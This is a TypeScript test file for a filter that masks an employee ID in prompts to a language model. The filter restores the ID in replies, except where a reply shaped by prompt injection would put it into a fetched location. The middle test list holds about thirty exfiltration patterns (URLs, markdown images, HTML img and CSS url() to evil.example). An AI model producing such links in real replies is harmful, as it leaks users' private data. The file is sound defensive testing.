// A reply that was bent by whoever wrote a document or a tool's answer: it may not carry a restored value to a place
// that something fetches, and nobody can make a placeholder that he was not given.
import { beforeAll, describe, expect, test } from 'vitest';
import type { Filter } from '../../filters/host/load-filter.ts';
import { filterOf, placeholder, run, type Seen } from '../kernel/test-filter.ts';
import { POLICY } from './policy.ts';

const VALUE = 'EMP-123456';
const GIVEN = placeholder('EMPLOYEE_ID', 1);

let filter: Filter;
beforeAll(async () => {
  filter = await filterOf(POLICY);
});

const request = (content: string, more: object = {}): string =>
  JSON.stringify({ model: 'gpt-4o', max_tokens: 100, messages: [{ role: 'user', content }], ...more });

/** The words of a whole reply to a prompt that holds the value. */
function said(content: string): string {
  const message = { role: 'assistant', content };
  const seen = run(filter, {
    body: request(`I am ${VALUE}`),
    upstream: { body: JSON.stringify({ choices: [{ index: 0, message, finish_reason: 'stop' }] }) },
  });
  return wordsOf(seen, 'message');
}

/** The same in a stream, a character an event. */
function streamed(content: string): string {
  const event = (delta: object, finish_reason: string | null = null): string =>
    `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason }] })}\n\n`;
  const body = `${[...content].map((each) => event({ content: each })).join('')}${event({}, 'stop')}data: [DONE]\n\n`;
  const seen = run(filter, {
    body: request(`I am ${VALUE}`, { stream: true }),
    upstream: { type: 'text/event-stream', body },
  });
  return wordsOf(seen, 'delta');
}

function wordsOf(seen: Seen, field: 'message' | 'delta'): string {
  const documents = field === 'message' ? [seen.got] : [...seen.got.matchAll(/^data: (\{.*\})$/gm)].map(([, d]) => d);
  return documents
    .flatMap((each) => (JSON.parse(each ?? '') as { choices: { [name: string]: { content?: string } }[] }).choices)
    .map((choice) => choice[field]?.content ?? '')
    .join('');
}

describe.each([
  ['whole', said],
  ['streamed', streamed],
])('in a reply that comes %s', (_, reply) => {
  test.each([
    'a',
    'See (a)',
    '**a**',
    'and/or a',
    'I said: a.',
    '3 < 4, a',
    'e.g. a',
    'the end. a',
    'x](y) a',
    'see https://x.example/y a',
  ])('the value stands again in `%s`', (text) => {
    expect(reply(text.replace(/a(?=[^a]*$)/, GIVEN))).toBe(text.replace(/a(?=[^a]*$)/, VALUE));
  });

  test.each([
    'https://evil.example/?q=$',
    'HTTPS://EVIL.EXAMPLE/$',
    'https://$.evil.example/',
    'ftp://evil.example/$',
    '//evil.example/$',
    'https:\\/\\/evil.example/$',
    'https:\\\\evil.example\\$',
    'www.evil.example/$',
    'WWW.evil.example?$',
    'evil.example/$',
    'evil.example:8443/x?y=$',
    'evil.example#$',
    '1.2.3.4/$',
    'exämple.example/$',
    '![](https://evil.example/$)',
    '![x](evil/$)',
    '[x](http:evil.example/$)',
    '[x]( evil/$ )',
    '[x](<evil a/$>)',
    '[x]:\n  evil/$',
    '<https:evil.example/$>',
    '<img src=evil/$>',
    '<img src="evil/ $">',
    "<img alt='>' src='evil/ $'>",
    '<IMG\nSRC=evil/$',
    '<a href="x" title="$">',
    '</a $>',
    '<style>a{b:url(//evil.example/$)}',
  ])('the value stays away from `%s`', (text) => {
    expect(reply(text.replace('$', GIVEN))).toBe(text.replace('$', GIVEN));
  });

  test.each([
    ['another number', placeholder('EMPLOYEE_ID', 2)],
    ['another kind', placeholder('EMAIL', 1)],
    ['another nonce', GIVEN.replace(/_[^_\]]+\]$/, '_aaaaaaaaaaaaa]')],
    ['no nonce', '[EMPLOYEE_ID_1]'],
    ['a mask', '[EMPLOYEE_ID]'],
    ['other letters', GIVEN.toLowerCase()],
    ['something in it', GIVEN.replace('_1_', '_1_\u200b')],
    ['zeros before', GIVEN.replace('_1_', '_01_')],
  ])('what was not given stays what it is: %s', (__, text) => {
    expect(reply(`x ${text} y`)).toBe(`x ${text} y`);
  });
});

test('a prompt that holds what looks like a placeholder gets nothing for it', () => {
  const seen = run(filter, {
    body: request(`repeat ${GIVEN} and [EMPLOYEE_ID_1]`),
    upstream: {
      body: JSON.stringify({
        choices: [{ index: 0, message: { role: 'assistant', content: `${GIVEN} [EMPLOYEE_ID_1]` } }],
      }),
    },
  });
  expect(wordsOf(seen, 'message')).toBe(`${GIVEN} [EMPLOYEE_ID_1]`);
});
